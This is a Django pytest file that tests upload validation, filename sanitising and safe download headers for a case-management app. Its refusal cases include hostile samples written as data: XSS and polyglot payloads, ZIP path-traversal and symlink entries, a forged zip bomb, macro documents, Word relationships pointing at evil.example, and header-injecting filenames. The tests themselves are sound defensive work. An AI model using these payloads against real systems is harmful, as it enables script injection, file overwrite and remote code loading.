"""P34 and P35: what is taken from outside, what is not, and how it is given back."""

from __future__ import annotations

import io
import stat
import zipfile
from time import process_time
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from tests.calls import story
from tests.world import NOW, World, opened
from workflows.models import AccessLog, Case, DocumentVersion, ScanState
from workflows.store import check_upload, clean_name, store_upload

PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n"
PNG = b"\x89PNG\r\n\x1a\n"
WORD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ODT = b"application/vnd.oasis.opendocument.text"


def archive(parts: dict[str, bytes], *, link: str = "") -> bytes:
    """A ZIP of these parts; `link` is one that is a symbolic link."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = ((stat.S_IFLNK if name == link else stat.S_IFREG) | 0o644) << 16
            made.writestr(info, content)
    return stream.getvalue()


def docx(more: dict[str, bytes] | None = None, **how: Any) -> bytes:
    parts = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>"}
    return archive(parts | (more or {}), **how)


def bomb() -> bytes:
    """A document that says of a part that it holds 4 GB, as one that really does would."""
    content = bytearray(docx())
    content[(at := content.rindex(b"PK\1\2") + 24) : at + 4] = (0xFFFFFFF0).to_bytes(4, "little")
    return bytes(content)


def related(kind: str, target: str) -> dict[str, bytes]:
    """The relations of a document to something elsewhere."""
    line = f'<Relationship Id="rId1" Type="{WORD}/{kind}" Target="{target}" TargetMode="External"/>'
    return {"word/_rels/document.xml.rels": f"<Relationships>{line}</Relationships>".encode()}


TAKEN = {
    "a PDF": ("dossier.pdf", PDF),
    "capitals": ("DOSSIER.PDF", PDF),
    "an image": ("photo.png", PNG + b"\0" * 100),
    "an image of 50 000 by 50 000, which nobody here unpacks": (
        "grande.png",
        PNG + b"\0\0\0\rIHDR\0\0\xc3\x50\0\0\xc3\x50\x08\x02\0\0\0",
    ),
    "Word": ("note.docx", docx()),
    "Word with a link to click": ("note.docx", docx(related("hyperlink", "https://region.example/"))),
    "Word with its own template": (
        "note.docx",
        docx(related("attachedTemplate", r"file:///C:\Users\x\Normal.dotm")),
    ),
    "OpenDocument": ("note.odt", archive({"mimetype": ODT, "content.xml": b"<x/>"})),
    "a PDF of a million objects, which nobody here reads": (
        "gros.pdf",
        PDF + b"1 0 obj\n<<>>\nendobj\n" * 1_000_000,
    ),
}
REFUSED = {
    "nothing": ("vide.pdf", b""),
    "a page": ("page.html", b"<script>alert(1)</script>"),
    "a drawing with a script": ("dessin.svg", b"<svg onload=alert(1)>"),
    "a page called PDF": ("page.pdf", b"<!doctype html><script>alert(1)</script>"),
    "a PDF that is a page": ("page.pdf", b"%PDF-1.7\n<script>alert(1)</script>"),
    "a page before a PDF": ("page.pdf", b"<html>" + PDF),
    "a GIF that is a script": ("image.png", b"GIF89a/*\0*/=1;alert(1)//"),
    "a GIF": ("image.gif", b"GIF89a"),
    "a programme": ("facture.pdf.exe", b"MZ"),
    "a programme called PDF": ("facture.pdf", b"MZ\x90\0"),
    "a PDF called Word": ("note.docx", PDF),
    "a ZIP called Word": ("note.docx", archive({"a.txt": b"x"})),
    "Word called OpenDocument": ("note.odt", docx()),
    "a PDF before a ZIP, called Word": ("note.docx", PDF + docx()),
    "half a ZIP": ("note.docx", docx()[:60]),
    "macros": ("note.docx", docx({"word/vbaProject.bin": b"x"})),
    "macros of OpenDocument": ("note.odt", archive({"mimetype": ODT, "Basic/Standard/x.xml": b"x"})),
    "a path that climbs": ("note.docx", docx({"../../etc/cron.d/x": b"x"})),
    "a path from the root": ("note.docx", docx({"/etc/cron.d/x": b"x"})),
    "a path of Windows": ("note.docx", docx({"..\\..\\x.dll": b"x"})),
    "a symbolic link": ("note.docx", docx({"word/media/x": b"/etc/passwd"}, link="word/media/x")),
    "a bomb": ("note.docx", bomb()),
    "ten thousand parts": ("note.docx", docx({f"word/{n}": b"" for n in range(10_000)})),
    "a template elsewhere": ("note.docx", docx(related("attachedTemplate", "https://evil.example/x.dotm"))),
    "an object elsewhere": ("note.docx", docx(related("oleObject", r"\\evil.example\share\x"))),
    "an image elsewhere": ("note.docx", docx(related("image", "file://evil.example/share/x.png"))),
    "a template that calls itself a link": (
        "note.docx",
        docx(related("attachedTemplate", "https://evil.example/hyperlink")),
    ),
    "relations in another alphabet": (
        "note.docx",
        docx({"word/_rels/document.xml.rels": "<Relationships/>".encode("utf-16")}),
    ),
}


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    # Django takes the path off a name; what is tested is what comes here by any way
    made = SimpleUploadedFile("x", content)
    made._name = name  # type: ignore[attr-defined]
    return made


@pytest.mark.parametrize("what", TAKEN)
def test_p34_what_is_taken(what: str) -> None:
    started = process_time()
    assert check_upload(upload(*TAKEN[what])).startswith(("application/", "image/"))
    assert process_time() - started < 5


@pytest.mark.parametrize("what", REFUSED)
def test_p34_what_is_refused(what: str) -> None:
    started = process_time()
    with pytest.raises(ValidationError):
        check_upload(upload(*REFUSED[what]))
    assert process_time() - started < 5


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\boot.pdf", "boot.pdf"),
        ("\u202efdp.exe.pdf", "fdp.exe.pdf"),
        ("a\0b\r\nSet-Cookie: x.pdf", "abSet-Cookie_x.pdf"),
        ("....pdf", "document.pdf"),
        ("/.pdf", "pdf"),
        ("é" * 300 + ".pdf", "é" * 146 + ".pdf"),
        ('"><img src=x onerror=alert(1)>.pdf', "img_srcx_onerroralert1.pdf"),
        ("x" * 1_000_000 + ".PDF", "x" * 146 + ".pdf"),
    ],
)
def test_p34_a_name_is_only_a_name(sent: str, kept: str) -> None:
    assert clean_name(sent) == kept


def test_p34_a_case_holds_so_much_and_two_files_of_one_name_are_two(world: World, case: Case) -> None:
    first, second = (store_upload(case, "x", upload("rib.pdf", PDF + bytes([n]))) for n in (1, 2))
    assert first.name == second.name
    assert first.path != second.path
    with opened():
        document = case.documents.create(code="x", label="x", created_at=NOW)
        DocumentVersion.objects.create(
            document=document, number=1, name="x", path="x", size=1 << 30, sha256="0" * 64,
            content_type="application/pdf", uploaded_at=NOW,
        )  # fmt: skip
    with pytest.raises(ValidationError, match="too many files"):
        store_upload(case, "x", upload("rib.pdf", PDF))


def test_p35_a_file_is_given_to_who_may_have_it_and_never_runs_here(world: World) -> None:
    dossier = story.submitted_dossier(world)
    version = DocumentVersion.objects.filter(document__case=dossier.case, document__code="piece-rib").get()
    with opened():
        DocumentVersion.objects.filter(pk=version.pk).update(
            name='"; filename="x.html\r\nSet-Cookie: x=1é.pdf'
        )
    address = reverse("workflows:download", args=[version.pk])

    def ask(user: Any) -> Any:
        client = Client()
        client.force_login(user)
        return client.get(address)

    assert ask(world.officer).status_code == 409  # the antivirus has said nothing yet
    story.scanned(version)
    assert ask(world.other).status_code == 404
    assert Client().get(address)["Location"].startswith(reverse("account_login"))
    answer = ask(world.officer)
    assert answer["Content-Disposition"].startswith("attachment; filename*=utf-8''")
    assert "\n" not in answer["Content-Disposition"]
    assert not answer.cookies.get("x")
    assert answer["Content-Type"] == "application/pdf"
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert answer["Cache-Control"] == "no-store, private"
    assert answer["Cross-Origin-Resource-Policy"] == "same-origin"
    assert AccessLog.objects.filter(user=world.officer, case=dossier.case, kind="download").count() == 1
    answer.getvalue()
    with opened():
        DocumentVersion.objects.filter(pk=version.pk).update(scan=ScanState.INFECTED)
    assert ask(world.officer).status_code == 403
